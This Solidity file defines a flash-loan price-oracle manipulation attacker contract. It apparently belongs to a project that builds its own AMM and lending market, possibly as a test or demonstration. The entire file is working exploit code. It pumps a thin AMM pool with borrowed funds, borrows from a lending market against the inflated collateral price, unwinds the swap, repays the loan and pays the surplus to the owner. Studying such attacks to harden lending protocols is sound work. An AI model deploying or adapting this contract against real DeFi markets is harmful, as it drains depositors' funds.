// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";
import {ILendingMarket} from "../../core/lending/ILendingMarket.sol";

/// @title OracleManipulationAttacker
/// @notice Borrows a lending market's cash against collateral whose price it pumped in a thin AMM pool,
/// all inside one flash loan: buy the collateral token with the loan, supply the attacker's own
/// collateral, borrow, sell the bought tokens back, repay, keep the rest.
contract OracleManipulationAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    error AttackerNotLender(address caller);
    error AttackerNotInitiator(address initiator);
    error AttackerNotOwner(address caller);

    bytes32 internal constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    IERC3156FlashLender public immutable lender;
    ILendingMarket public immutable market;
    IUniswapV2Pair public immutable pair;
    /// @notice The token the market lends and the pool quotes in (the flash-loaned token).
    IERC20 public immutable cashToken;
    /// @notice The collateral the market prices from the pool.
    IERC20 public immutable collateral;

    constructor(
        IERC3156FlashLender lender_,
        ILendingMarket market_,
        IUniswapV2Pair pair_,
        IERC20 cashToken_,
        IERC20 collateral_
    ) {
        owner = msg.sender;
        lender = lender_;
        market = market_;
        pair = pair_;
        cashToken = cashToken_;
        collateral = collateral_;
    }

    /// @notice Pulls `collateralAmount` of the owner's collateral, flash-borrows `loan` cash tokens,
    /// and borrows `borrowAmount` from the market; the proceeds go to the owner.
    function attack(uint256 collateralAmount, uint256 loan, uint256 borrowAmount) external {
        if (msg.sender != owner) revert AttackerNotOwner(msg.sender);
        collateral.safeTransferFrom(msg.sender, address(this), collateralAmount);
        lender.flashLoan(
            this,
            address(cashToken),
            loan,
            abi.encode(collateralAmount, borrowAmount)
        );
        cashToken.safeTransfer(owner, cashToken.balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        if (msg.sender != address(lender)) revert AttackerNotLender(msg.sender);
        if (initiator != address(this)) revert AttackerNotInitiator(initiator);
        (uint256 collateralAmount, uint256 borrowAmount) = abi.decode(data, (uint256, uint256));

        uint256 bought = _swap(cashToken, amount);
        collateral.forceApprove(address(market), collateralAmount);
        market.supply(address(collateral), collateralAmount);
        market.borrow(address(cashToken), borrowAmount, address(this));
        _swap(collateral, bought);

        cashToken.forceApprove(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }

    /// @dev Sells `amountIn` of `tokenIn` into the pair at the constant-product price, fee 0.3%.
    function _swap(IERC20 tokenIn, uint256 amountIn) internal returns (uint256 amountOut) {
        (uint112 reserve0, uint112 reserve1, ) = pair.getReserves();
        bool inIsToken0 = pair.token0() == address(tokenIn);
        (uint256 reserveIn, uint256 reserveOut) = inIsToken0
            ? (uint256(reserve0), uint256(reserve1))
            : (uint256(reserve1), uint256(reserve0));
        uint256 amountInWithFee = amountIn * 997;
        amountOut = (amountInWithFee * reserveOut) / (reserveIn * 1000 + amountInWithFee);
        tokenIn.safeTransfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = inIsToken0
            ? (uint256(0), amountOut)
            : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
